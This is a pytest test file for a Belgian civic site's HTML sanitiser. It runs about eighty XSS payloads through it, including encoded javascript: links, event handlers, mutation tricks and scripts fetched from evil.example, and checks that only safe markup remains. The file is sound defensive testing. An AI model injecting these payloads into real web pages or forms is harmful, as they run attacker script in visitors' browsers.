"""The allow-list sanitiser of news texts (civic/richtext.py: nh3, then a normalising pass)
against a battery of XSS payloads: whatever comes in, what comes out holds only allowed
tags and attributes, links only to safe addresses, and is stable when sanitised again.
The normalising pass is also tested on its own: it must be safe without nh3 before it."""

import re
from html.parser import HTMLParser

import pytest

from civic.richtext import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, html_to_text, safe_url, sanitise_html


class _Inventory(HTMLParser):
    """Every tag and attribute a browser would see in the output."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.comments = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.comments.append(data)


DANGEROUS_URL = re.compile(r"^\s*(javascript|vbscript|data|file|about|blob)\s*:", re.I)


def assert_safe(output: str) -> None:
    inventory = _Inventory()
    inventory.feed(output)
    inventory.close()
    assert not inventory.comments, output
    for tag, attrs in inventory.tags:
        assert tag in ALLOWED_TAGS, (tag, output)
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, {}), (tag, name, output)
            assert not name.startswith("on") and name not in ("style", "class", "id", "src"), output
            if name == "href":
                compact = re.sub(r"[\x00-\x20\x7f-\x9f]", "", value)
                assert not DANGEROUS_URL.match(compact), output
                assert safe_url(value) == value, output
    lowered = output.lower()
    for needle in ("<script", "<iframe", "<svg", "<img", "<style", "<object", "<embed", "<math", "<form",
                   "<base", "<meta", "<link", "onerror=", "onload=", "onclick=", "onmouseover=\"", "style=",
                   "javascript:", "vbscript:", "data:text"):
        assert needle not in lowered, (needle, output)
    # Sanitising again changes nothing (no double escaping either).
    assert sanitise_html(output) == output


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>after",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<a href=\"javascript:alert(1)\">clic</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">clic</a>",
    "<A HREF=\"JAVASCRIPT:alert(1)\">clic</A>",
    "<a href=\"  javascript:alert(1)\">clic</a>",
    "<a href=\"java\tscript:alert(1)\">clic</a>",
    "<a href=\"java\nscript:alert(1)\">clic</a>",
    "<a href=\"java&#x09;script:alert(1)\">clic</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">clic</a>",
    "<a href=\"&#106;avascript:alert(1)\">clic</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">clic</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058alert(1)\">clic</a>",
    "<a href=\"javascript&colon;alert(1)\">clic</a>",
    "<a href=\"javascript://%0aalert(1)\">clic</a>",
    "<a href=\"\x01javascript:alert(1)\">clic</a>",
    "<a href=\"java\x00script:alert(1)\">clic</a>",
    "<a href=\"\u3000javascript:alert(1)\">clic</a>",
    "<a href=\"ｊavascript:alert(1)\">clic</a>",
    "<a href=\"vbscript:msgbox(1)\">clic</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">clic</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">clic</a>",
    "<a href=\"file:///etc/passwd\">clic</a>",
    "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">ok</a>",
    "<a href='https://x.example/\"onmouseover=\"alert(1)'>ok</a>",
    "<a href=\"https://ok.example\" target=\"_blank\" style=\"position:fixed;top:0\">ok</a>",
    "<p onclick=\"alert(1)\">texte</p>",
    "<p style=\"background:url(javascript:alert(1))\">texte</p>",
    "<p class=\"x\" id=\"y\" title=\"z\">texte</p>",
    "<div onmouseover=\"alert(1)\">texte</div>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>Envoyer</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--<script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<table background=\"javascript:alert(1)\"><tr><td style=\"x\" onclick=\"y\">1</td></tr></table>",
    "<ol start=\"1 onclick=alert(1)\"><li>x</li></ol>",
    "<td colspan=\"2 onmouseover=alert(1)\">x</td>",
    "<abbr title=\"&quot;><script>alert(1)</script>\">x</abbr>",
    "<p><a href=\"https://ok.example\"><img src=x onerror=alert(1)></a></p>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<<script>alert(1);//<</script>",
    "<a href=\"https://ok.example\"",
    "<p title=\"unterminated",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<sCrIpT>alert(1)</ScRiPt>",
    "<script/src=\"https://evil.example/x.js\"></script>",
    "<img/src=x/onerror=alert(1)>",
    "<a/href=\"javascript:alert(1)\">x</a>",
    "<p>x</p><script>alert(1)",
    "<style><!--</style><script>alert(1)//--></script>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives(payload):
    output = sanitise_html(payload)
    assert_safe(output)
    assert "alert(1)</script" not in output and "<script" not in output.lower()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_second_pass_alone_is_safe_too(payload):
    from civic.richtext import _Sanitiser

    parser = _Sanitiser()
    parser.feed(payload)
    output = parser.result()
    inventory = _Inventory()
    inventory.feed(output)
    for tag, attrs in inventory.tags:
        assert tag in ALLOWED_TAGS and all(name in ALLOWED_ATTRIBUTES.get(tag, {}) for name, _v in attrs), output
        assert all(safe_url(value) == value for name, value in attrs if name == "href"), output
    assert "<script" not in output.lower() and "onerror=" not in output.lower()


def test_text_around_removed_elements_stays_and_is_escaped():
    output = sanitise_html('<p onclick="x">Bonjour <script>alert(1)</script>et <b>bienvenue</b></p>'
                           '<div>fin & suite</div>')
    assert output == "<p>Bonjour et <strong>bienvenue</strong></p>fin &amp; suite"
    assert sanitise_html("<div>fin &amp; suite</div>") == "<p>fin &amp; suite</p>"


def test_allowed_markup_is_kept():
    text = ('<h2>Titre</h2><p>Un <strong>texte</strong> <em>riche</em> avec '
            '<a href="https://www.fleurus.be/a?x=1&amp;y=2" title="Site">un lien</a>, '
            '<a href="mailto:participation@fleurus.be">un e-mail</a>, <a href="tel:+3271820211">un numéro</a>, '
            '<a href="/budgets/">une page</a> et <a href="#haut">une ancre</a>.</p>'
            '<ul><li>un</li><li>deux</li></ul><ol start="3"><li>trois</li></ol><blockquote>Citation</blockquote>'
            '<table><caption>Chiffres</caption><thead><tr><th scope="col">Quoi</th><th scope="col">Combien</th></tr>'
            '</thead><tbody><tr><td colspan="2">287</td></tr></tbody></table><hr><p>x<br>y</p>')
    assert sanitise_html(text) == text


def test_links_without_a_safe_address_become_text():
    assert sanitise_html('<a href="javascript:alert(1)">clic</a> et <a>rien</a>') == "<p>clic et rien</p>"


def test_renamed_and_unknown_tags():
    assert sanitise_html("<h1>Grand</h1><b>gras</b><i>penché</i><span>texte</span><font color=red>rouge</font>") == (
        "<h2>Grand</h2><strong>gras</strong><em>penché</em>texterouge")
    assert sanitise_html("<span>seul</span>") == "<p>seul</p>"


def test_open_tags_are_closed_and_stray_ends_ignored():
    assert sanitise_html("<p><strong>pas fermé") == "<p><strong>pas fermé</strong></p>"
    assert sanitise_html("</em>texte</p></ul>") == "<p>texte</p>"
    # Parsed as browsers do (HTML5): a new item closes the one before.
    assert sanitise_html("<ul><li>un<li>deux</ul>suite") == "<ul><li>un</li><li>deux</li></ul>suite"


def test_plain_text_keeps_its_paragraphs_and_escapes_everything():
    assert sanitise_html("Ligne 1\nLigne 2\n\nParagraphe 2 <3 & plus") == (
        "<p>Ligne 1<br>Ligne 2</p>\n\n<p>Paragraphe 2 &lt;3 &amp; plus</p>")


def test_empty_and_whitespace():
    assert sanitise_html("") == "" and sanitise_html("   \n ") == "" and sanitise_html(None) == ""


@pytest.mark.parametrize("url,expected", [
    ("https://www.fleurus.be/", True), ("http://example.org/a b", True), ("mailto:a@b.be", True),
    ("tel:+32", True), ("/actualites/", True), ("#top", True), ("?page=2", True), ("page/2", True),
    ("//cdn.example/x", True), ("javascript:alert(1)", False), (" JAVASCRIPT:alert(1)", False),
    ("java\tscript:x", False), ("data:image/png;base64,AAAA", False), ("ftp://x", False), ("", False),
    ("   ", False), ("weird:thing", False), ("\u2028javascript:x", False),
])
def test_safe_url(url, expected):
    assert (safe_url(url) is not None) is expected


def test_html_to_text():
    assert html_to_text("<p>Un <strong>texte</strong></p><p>et &amp; suite</p>") == "Un texte et & suite"
